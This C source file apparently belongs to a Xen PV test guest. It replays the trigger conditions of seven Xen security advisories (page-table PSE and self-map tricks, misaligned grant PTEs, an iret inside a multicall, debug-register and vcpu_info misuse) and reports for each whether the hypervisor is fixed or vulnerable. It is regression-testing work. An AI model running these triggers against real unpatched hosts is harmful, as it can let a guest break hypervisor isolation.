/*
 * checks_poc.c - pvtest-v2-poc (POC=1): a hostile variant of the reference
 * guest that tries, as a 64-bit PV domU, what seven Xen security advisories
 * were about, and says for each whether the hypervisor behaved as it did
 * before the fix or after it:
 *
 *   pvtest: XSA-148 fixed - <what was tried> -> <what came back>
 *   pvtest: XSA-213 vulnerable - ...
 *   pvtest: XSA-227 unexpected - ...        (neither answer: a failure)
 *   pvtest: poc: 7 steps, 0 vulnerable, 7 fixed, 0 unexpected
 *
 * Then SCHEDOP_shutdown: poweroff unless a step was unexpected.  A step
 * undoes what it did as far as the hypervisor lets it; the XSA-327 step
 * comes late because a vulnerable hypervisor moves vcpu_info somewhere odd,
 * and XSA-213's last (an open-loop replay cannot model an iret inside a
 * multicall beyond its answer; the steps before it replay exactly).
 *
 * The answers (xen.git): XSA-148 fe360c90ea, XSA-182 e1bff4c2ea (both
 * xen/arch/x86/mm.c mod_l2_entry/mod_l4_entry), XSA-213 22c096c99d
 * (xen/common/multicall.c), XSA-227 ce442926c2 and XSA-234 16b1414de9
 * (xen/arch/x86/mm.c, the grant PTE paths; xen/arch/x86/pv/grant_table.c
 * since 4.11), XSA-327 3fdc211b01 (xen/common/domain.c map_vcpu_info),
 * XSA-12 e89c6d0573 (xen/include/asm-x86/debugreg.h; poc_xsa12.c, which needs
 * --vcpus 2: with one vCPU the step prints "XSA-12 skipped" and counts for
 * nothing).
 * It calls nothing whose answer differs between Xen versions for another
 * reason (no xen_version version query), so that a replay on an older Xen
 * diverges only where a fix is missing.
 */
#include "pvtest.h"

#define VCPUOP_register_vcpu_info 10
struct vcpu_register_vcpu_info { uint64_t mfn; uint32_t offset, rsvd; };

#define _PAGE_PSE       0x080UL
#define PDE_FLAGS       (_PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED)
#define PTE_MAP         (_PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED | _PAGE_DIRTY | _PAGE_NX)
#define R_POC           8           /* first grant entry past the reserved ones */

static uint64_t poc_l1[512] __page_aligned;
static uint64_t poc_l2[512] __page_aligned;
static uint64_t poc_l4[512] __page_aligned;
static uint8_t grant_page[PAGE_SIZE] __page_aligned;    /* the page granted to itself */
static uint8_t tab_va[PAGE_SIZE] __page_aligned;        /* the shared grant frame */
static uint8_t window[2][PAGE_SIZE] __page_aligned;     /* PTEs the grant steps use */
static uint8_t vinfo_page[PAGE_SIZE] __page_aligned;    /* XSA-327's new vcpu_info */

static unsigned nvuln, nfixed, nodd;
static unsigned long domid = ~0UL;
static volatile struct grant_entry_v1 *gt1;

long poc_multicall_iret(struct multicall_entry *calls, unsigned n, unsigned long rax);

/* One step's verdict: fixed, vulnerable, or neither. */
static void verdict(int xsa, int fixed, int vulnerable, const char *what, const char *fmt, ...)
    __attribute__((format(printf, 5, 6)));
static void verdict(int xsa, int fixed, int vulnerable, const char *what, const char *fmt, ...)
{
    char got[160];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(got, sizeof(got), fmt, ap);
    va_end(ap);
    const char *v = fixed ? "fixed" : vulnerable ? "vulnerable" : "unexpected";
    if (fixed)
        nfixed++;
    else if (vulnerable)
        nvuln++;
    else
        nodd++;
    printk("pvtest: XSA-%d %s - %s -> %s\n", xsa, v, what, got);
}

static long mmuext1(unsigned cmd, unsigned long arg1)
{
    struct mmuext_op op = { cmd, 0, arg1, 0 };
    unsigned done = 0;
    return HYPERVISOR_mmuext_op(&op, 1, &done, DOMID_SELF);
}

static long mmu1(uint64_t ma, uint64_t val)
{
    struct mmu_update u = { ma, val };     /* MMU_NORMAL_PT_UPDATE: low bits 0 */
    unsigned done = 0;
    return HYPERVISOR_mmu_update(&u, 1, &done, DOMID_SELF);
}

static long gnttab(unsigned cmd, void *uop, unsigned long count)
{
    return xen_hypercall_nr(HC_grant_table_op, cmd, (unsigned long)uop, count, 0, 0);
}

/* ------------------------------------------------------------------ */

/* XSA-148: an L2 entry that keeps its frame and gains _PAGE_PSE. */
static void poc_148(void)
{
    const char *what = "mmu_update adds _PAGE_PSE to a present entry of a pinned L2 "
                       "(same frame)";
    memset(poc_l1, 0, PAGE_SIZE);
    memset(poc_l2, 0, PAGE_SIZE);
    long rc = set_page_ro(poc_l1, 1) | set_page_ro(poc_l2, 1);
    rc = rc ? rc : mmuext1(MMUEXT_PIN_L1_TABLE, virt_to_mfn(poc_l1));
    rc = rc ? rc : mmuext1(MMUEXT_PIN_L2_TABLE, virt_to_mfn(poc_l2));
    /* the entry through Xen, so a replay's backend knows what it held */
    rc = rc ? rc : mmu1(virt_to_maddr(poc_l2), virt_to_maddr(poc_l1) | PDE_FLAGS);
    if (rc) {
        verdict(148, 0, 0, what, "setup failed (rc %ld)", rc);
        return;
    }
    rc = mmu1(virt_to_maddr(poc_l2), virt_to_maddr(poc_l1) | PDE_FLAGS | _PAGE_PSE);
    verdict(148, rc == -XEN_EINVAL, rc == 0, what, "rc %ld%s", rc,
            rc == 0 ? " (a 2 MiB superpage)" : "");
    mmu1(virt_to_maddr(poc_l2), 0);
    mmuext1(MMUEXT_UNPIN_TABLE, virt_to_mfn(poc_l2));
    mmuext1(MMUEXT_UNPIN_TABLE, virt_to_mfn(poc_l1));
    set_page_ro(poc_l2, 0);
    set_page_ro(poc_l1, 0);
}

/* XSA-182: a read-only linear (self-referencing) L4 entry made writable. */
static void poc_182(void)
{
    const char *what = "mmu_update makes a pinned L4's read-only self-reference writable "
                       "(same frame)";
    uint64_t self = virt_to_maddr(poc_l4);
    memset(poc_l4, 0, PAGE_SIZE);
    long rc = set_page_ro(poc_l4, 1);
    rc = rc ? rc : mmuext1(MMUEXT_PIN_L4_TABLE, virt_to_mfn(poc_l4));
    rc = rc ? rc : mmu1(self, self | _PAGE_PRESENT | _PAGE_ACCESSED);
    if (rc) {
        verdict(182, 0, 0, what, "setup failed (rc %ld)", rc);
        return;
    }
    rc = mmu1(self, self | PDE_FLAGS);
    verdict(182, rc == -XEN_EINVAL, rc == 0, what, "rc %ld%s", rc,
            rc == 0 ? " (the L4 maps itself writable)" : "");
    mmu1(self, 0);
    mmuext1(MMUEXT_UNPIN_TABLE, virt_to_mfn(poc_l4));
    set_page_ro(poc_l4, 0);
}

/* XSA-213: an iret inside a multicall, with an entry after it.  The iret's
 * RAX is 0: what the verdict rests on is whether the entry after it ran (an
 * open-loop replay models no vCPU registers, so an iret answers 0 there, and
 * with 0 the recording and the open-loop answer agree).  fpu_taskswitch(0)
 * answers 0 on every Xen; the entries start at 0xdead. */
static void poc_213(void)
{
    struct multicall_entry mc[3] = {
        { HC_fpu_taskswitch, 0xdead, { 0 } },
        { HC_iret, 0xdead, { 0 } },
        { HC_fpu_taskswitch, 0xdead, { 0 } },
    };
    long rc = poc_multicall_iret(mc, 3, 0);
    verdict(213, rc == 0 && mc[1].result == 0 && mc[2].result == 0xdead,
            rc == 0 && mc[2].result == 0,
            "multicall [fpu_taskswitch, iret, fpu_taskswitch]",
            "RAX 0x%lx, entry after the iret %s", (unsigned long)rc,
            mc[2].result == 0xdead ? "not run" : "ran");
}

static long poc_grant_setup(void)
{
    char buf[16];
    uint32_t type = 0;
    long n = xs_request(XS_READ, "domid", 6, buf, sizeof(buf), &type);
    if (n < 0 || !buf[0])
        return -1;
    domid = 0;
    for (char *p = buf; *p >= '0' && *p <= '9'; p++)
        domid = domid * 10 + (unsigned long)(*p - '0');
    uint64_t frame = 0;
    struct gnttab_setup_table s = { DOMID_SELF, 1, 0x7777, &frame };
    long rc = gnttab(GNTTABOP_setup_table, &s, 1);
    if (rc || s.status != GNTST_okay)
        return -2;
    rc = HYPERVISOR_update_va_mapping((unsigned long)tab_va, (frame << PAGE_SHIFT) | PTE_MAP,
                                      UVMF_INVLPG | UVMF_LOCAL);
    if (rc)
        return -3;
    gt1 = (volatile struct grant_entry_v1 *)tab_va;
    gt1[R_POC].domid = (domid_t)domid;
    gt1[R_POC].frame = (uint32_t)virt_to_mfn(grant_page);
    barrier();
    gt1[R_POC].flags = GTF_permit_access;
    return 0;
}

static struct gnttab_map_grant_ref map(uint64_t addr, uint32_t flags)
{
    struct gnttab_map_grant_ref m = { addr, flags, R_POC, (domid_t)domid, 0x7777, 0xabcd, 0 };
    long rc = gnttab(GNTTABOP_map_grant_ref, &m, 1);
    if (rc)
        m.status = (int16_t)(0x100 + rc);
    return m;
}

static int16_t unmap(uint64_t addr, uint32_t handle)
{
    struct gnttab_unmap_grant_ref u = { addr, 0, handle, 0x7777 };
    long rc = gnttab(GNTTABOP_unmap_grant_ref, &u, 1);
    return rc ? (int16_t)(0x100 + rc) : u.status;
}

static void invlpg(const void *va)
{
    struct mmuext_op op = { MMUEXT_INVLPG_LOCAL, 0, (unsigned long)va, 0 };
    unsigned done = 0;
    HYPERVISOR_mmuext_op(&op, 1, &done, DOMID_SELF);
}

/* XSA-227: a contains_pte grant mapping at an address 4 bytes into an L1 entry. */
static void poc_227(void)
{
    const char *what = "map_grant_ref GNTMAP_contains_pte at an L1 entry's machine "
                       "address + 4";
    uint64_t pte_ma = 0;
    uint64_t pte0 = lookup_pte((unsigned long)window[0]);
    uint64_t pte1 = lookup_pte((unsigned long)window[1]);
    pte_slot((unsigned long)window[0], 1, &pte_ma);
    /* The same mapping at the entry itself first: it works, so only the
     * alignment can refuse the second one.  (It also puts the page tables in
     * the recording, which an open-loop replay needs to follow a Xen that
     * goes past the alignment check.) */
    struct gnttab_map_grant_ref m = map(pte_ma, GNTMAP_host_map | GNTMAP_contains_pte);
    if (m.status != GNTST_okay) {
        verdict(227, 0, 0, what, "setup: map at the aligned address, status %d", m.status);
        return;
    }
    unmap(pte_ma, m.handle);
    mmu1(pte_ma, pte0);
    invlpg(window[0]);
    m = map(pte_ma + 4, GNTMAP_host_map | GNTMAP_contains_pte);
    verdict(227, m.status == GNTST_general_error, m.status == GNTST_okay, what,
            "status %d%s", m.status,
            m.status == GNTST_okay ? " (the PTE straddles two L1 entries)" : "");
    if (m.status == GNTST_okay) {
        unmap(pte_ma + 4, m.handle);
        mmu1(pte_ma, pte0);
        mmu1(pte_ma + 8, pte1);
        invlpg(window[0]);
        invlpg(window[1]);
    }
}

/* XSA-234: unmapping a writable grant whose PTE the guest made read-only. */
static void poc_234(void)
{
    const char *what = "unmap_grant_ref of a writable host mapping whose PTE was made "
                       "read-only";
    uint64_t pte_ma = 0;
    uint64_t orig = lookup_pte((unsigned long)window[0]);
    pte_slot((unsigned long)window[0], 1, &pte_ma);
    struct gnttab_map_grant_ref m = map((unsigned long)window[0], GNTMAP_host_map);
    if (m.status != GNTST_okay) {
        verdict(234, 0, 0, what, "setup: map status %d", m.status);
        return;
    }
    invlpg(window[0]);
    uint64_t pte = lookup_pte((unsigned long)window[0]);
    long rc = HYPERVISOR_update_va_mapping((unsigned long)window[0], pte & ~_PAGE_RW,
                                           UVMF_INVLPG | UVMF_LOCAL);
    int16_t st = unmap((unsigned long)window[0], m.handle);
    verdict(234, rc == 0 && st == GNTST_general_error, rc == 0 && st == GNTST_okay, what,
            "status %d%s", st, st == GNTST_okay ? " (the writable pin dropped)" : "");
    if (st != GNTST_okay) {
        HYPERVISOR_update_va_mapping((unsigned long)window[0], pte, UVMF_INVLPG | UVMF_LOCAL);
        unmap((unsigned long)window[0], m.handle);
    }
    /* the PTE is empty now: put the page's own mapping back by machine address */
    mmu1(pte_ma, orig);
    invlpg(window[0]);
}

/* XSA-12: %dr7 with bits 32-63 set in a new vCPU's context (poc_xsa12.c; a
 * second vCPU needed, else skipped and not counted). */
static void poc_12(void)
{
    const unsigned long dr7 = (1UL << 32) | 0x400;
    unsigned long seen;
    const char *what = "VCPUOP_initialise vCPU 1 with %dr7 0x100000400, its get_debugreg(7)";
    long rc = poc_xsa12(dr7, &seen);
    if (rc == -XEN_ENOENT) {
        printk("pvtest: XSA-12 skipped - %s -> no vCPU 1 (run with --vcpus 2)\n", what);
        return;
    }
    verdict(12, rc == 0 && seen == 0x400, rc == 0 && seen == dr7, what, "rc %ld, %%dr7 0x%lx",
            rc, seen);
}

/* XSA-327: vcpu_info registered at an offset that is not 8-byte aligned. */
static void poc_327(void)
{
    struct vcpu_register_vcpu_info r = { virt_to_mfn(vinfo_page), 4, 0 };
    long rc = HYPERVISOR_vcpu_op(VCPUOP_register_vcpu_info, 0, &r);
    verdict(327, rc == -XEN_ENXIO, rc == 0,
            "VCPUOP_register_vcpu_info at offset 4 of a page", "rc %ld%s", rc,
            rc == 0 ? " (vcpu_info misaligned)" : "");
}

unsigned checks_poc(long trap_rc)
{
    console_ring_init();
    printk("pvtest: # proof of concept: what seven Xen security fixes changed for a "
           "64-bit PV domU\n");
    if (trap_rc)
        printk("pvtest: set_trap_table failed (rc %ld)\n", trap_rc);
    poc_148();
    poc_182();
    long rc = poc_grant_setup();
    if (rc) {
        verdict(227, 0, 0, "grant table setup", "failed (%ld)", rc);
        verdict(234, 0, 0, "grant table setup", "failed (%ld)", rc);
    } else {
        poc_227();
        poc_234();
    }
    poc_12();
    poc_327();
    poc_213();
    printk("pvtest: poc: %u steps, %u vulnerable, %u fixed, %u unexpected\n",
           nvuln + nfixed + nodd, nvuln, nfixed, nodd);
    return nodd + (trap_rc != 0);
}
